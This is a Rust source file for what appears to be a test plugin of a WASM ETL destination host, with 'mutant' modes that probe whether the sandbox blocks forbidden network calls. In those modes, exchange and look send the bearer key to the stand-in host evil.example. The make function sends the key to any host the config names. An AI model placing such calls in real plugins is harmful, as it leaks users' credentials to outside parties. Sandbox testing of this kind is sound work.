//! Requests: those of a plugin that works, and those to where none may call, or made as none may.

use crate::bindings::exports::etl::destination::destination::{Failure, Request};
use crate::config::Config;
use crate::requests::Answer;

#[cfg(target_family = "wasm")]
pub(crate) use self::wasi::{exchange, look, make, ping};

/// Only the component sends requests.
#[cfg(not(target_family = "wasm"))]
pub(crate) fn exchange(_: &Config, _: &str, _: &Request) -> Result<Answer, String> {
    Err("there is no way out".to_owned())
}

#[cfg(not(target_family = "wasm"))]
pub(crate) fn look(_: &Config, _: &str, _: &str, _: &str, _: &str) -> Result<Answer, String> {
    Err("there is no way out".to_owned())
}

#[cfg(not(target_family = "wasm"))]
pub(crate) fn ping(_: &Config) -> Result<Answer, String> {
    Err("there is no way out".to_owned())
}

#[cfg(not(target_family = "wasm"))]
pub(crate) fn make(_: &str) -> Result<(), Failure> {
    Ok(())
}

#[cfg(target_family = "wasm")]
mod wasi {
    use waki::bindings::wasi::http::outgoing_handler;
    use waki::bindings::wasi::http::types::{Fields, Method, OutgoingBody, OutgoingRequest, RequestOptions, Scheme};

    use waki::bindings::wasi::io::streams::StreamError;

    use super::{Answer, Config, Failure, Request};
    use crate::bindings::exports::etl::destination::destination::Body;
    use crate::{failed, mutant};

    /// Sends a request with the key, and reads the answer.
    pub(crate) fn exchange(config: &Config, text: &str, request: &Request) -> Result<Answer, String> {
        if mutant(text, "elsewhere") {
            // What comes of it is the engine's to say.
            let _ = round_trip(config, "https", "evil.example", "POST", "/", b"", None);
        }
        let body = match &request.body {
            Body::Text(text) => text.as_bytes(),
            Body::Bytes(bytes) => bytes,
        };
        let patience = mutant(text, "impatient").then_some(1_500_000_000);
        let scheme = if config.https { "https" } else { "http" };
        round_trip(config, scheme, &config.authority, &request.method, &request.path, body, patience)
    }

    /// Asks for what is at a path below that of the config.
    pub(crate) fn look(config: &Config, text: &str, method: &str, path: &str, body: &str) -> Result<Answer, String> {
        if mutant(text, "looks-elsewhere") {
            let _ = round_trip(config, "https", "evil.example", "GET", "/", b"", None);
        }
        let scheme = if config.https { "https" } else { "http" };
        let path = format!("{}{path}", config.path);
        round_trip(config, scheme, &config.authority, method, &path, body.as_bytes(), None)
    }

    /// Asks whether the server is there.
    pub(crate) fn ping(config: &Config) -> Result<Answer, String> {
        let scheme = if config.https { "https" } else { "http" };
        round_trip(config, scheme, &config.authority, "GET", &format!("{}/ping", config.path), b"", None)
    }

    fn round_trip(
        config: &Config,
        scheme: &str,
        authority: &str,
        method: &str,
        path: &str,
        body: &[u8],
        patience: Option<u64>,
    ) -> Result<Answer, String> {
        let headers = [
            ("authorization".to_owned(), format!("Bearer {}", config.key).into_bytes()),
            ("content-type".to_owned(), b"application/json".to_vec()),
        ];
        let request = OutgoingRequest::new(Fields::from_list(&headers).map_err(|error| format!("{error:?}"))?);
        let scheme = if scheme == "https" { Scheme::Https } else { Scheme::Http };
        let method = match method {
            "GET" => Method::Get,
            "POST" | "post" => Method::Post,
            other => Method::Other(other.to_owned()),
        };
        request
            .set_method(&method)
            .and_then(|()| request.set_scheme(Some(&scheme)))
            .and_then(|()| request.set_authority(Some(authority)))
            .and_then(|()| request.set_path_with_query(Some(path)))
            .map_err(|()| "address refused".to_owned())?;
        let options = RequestOptions::new();
        let _ = options.set_first_byte_timeout(patience);
        let outgoing = request.body().map_err(|()| "no body".to_owned())?;
        let answer = outgoing_handler::handle(request, Some(options)).map_err(|error| error.to_string())?;
        let stream = outgoing.write().map_err(|()| "no body".to_owned())?;
        for chunk in body.chunks(4096) {
            stream.blocking_write_and_flush(chunk).map_err(|error| error.to_string())?;
        }
        drop(stream);
        OutgoingBody::finish(outgoing, None).map_err(|error| error.to_string())?;
        let response = loop {
            match answer.get() {
                None => answer.subscribe().block(),
                Some(Ok(Ok(response))) => break response,
                Some(Ok(Err(error))) => return Err(error.to_string()),
                Some(Err(())) => return Err("the answer was taken before".to_owned()),
            }
        };
        let header = |name: &str| {
            let value = response.headers().get(&name.to_owned()).into_iter().next()?;
            String::from_utf8(value).ok()
        };
        let retry_after_ms =
            header("retry-after").and_then(|value| value.parse::<u64>().ok()).map(|seconds| seconds * 1000);
        let incoming = response.consume().map_err(|()| "no body".to_owned())?;
        let stream = incoming.stream().map_err(|()| "no body".to_owned())?;
        let mut body = Vec::new();
        let whole = loop {
            match stream.blocking_read(64 * 1024) {
                Ok(chunk) => body.extend(chunk),
                Err(ended) => break matches!(ended, StreamError::Closed),
            }
        };
        let body = String::from_utf8_lossy(&body).into_owned();
        Ok(Answer { status: response.status(), retry_after_ms, body, whole })
    }

    /// Makes the request that the config names as `call`: a scheme, an authority and a path with spaces between them. What
    /// became of it is told as the failure's message.
    pub(crate) fn make(config: &str) -> Result<(), Failure> {
        let Some(call) = value(config, "call") else { return Ok(()) };
        let [scheme, authority, path] = call.split(' ').collect::<Vec<_>>()[..] else {
            return Err(failed(format!("{call:?} is no call")));
        };
        let key = value(config, "key").unwrap_or_default();
        let path = path.replace("KEY", key);
        let mut headers = vec![("x-key".to_owned(), format!("Key {key}").into_bytes())];
        headers.extend(value(config, "header").map(|name| (name.to_owned(), b"evil.example".to_vec())));
        let headers = Fields::from_list(&headers).map_err(|error| failed(format!("header refused: {error:?}")))?;
        let request = OutgoingRequest::new(headers);
        let scheme = match scheme {
            "https" => Scheme::Https,
            "http" => Scheme::Http,
            other => Scheme::Other(other.to_owned()),
        };
        let set = request
            .set_method(&Method::Get)
            .and_then(|()| request.set_scheme(Some(&scheme)))
            .and_then(|()| request.set_authority(Some(authority)))
            .and_then(|()| request.set_path_with_query(Some(&path)));
        set.map_err(|()| failed("address refused".to_owned()))?;
        let body = request.body().map_err(|()| failed("no body".to_owned()))?;
        let answer = outgoing_handler::handle(request, None).map_err(|error| failed(format!("not sent: {error}")))?;
        OutgoingBody::finish(body, None).map_err(|error| failed(format!("not sent: {error}")))?;
        loop {
            match answer.get() {
                None => answer.subscribe().block(),
                Some(Ok(Ok(response))) => return Err(failed(format!("answered with {}", response.status()))),
                Some(Ok(Err(error))) => return Err(failed(format!("no answer: {error}"))),
                Some(Err(())) => return Err(failed("the answer was taken before".to_owned())),
            }
        }
    }

    /// The text of a key of the config, which is an object of texts without escapes.
    fn value<'a>(config: &'a str, key: &str) -> Option<&'a str> {
        let start = config.find(&format!("\"{key}\":\""))? + key.len() + 4;
        let rest = config.get(start..)?;
        rest.get(..rest.find('"')?)
    }
}
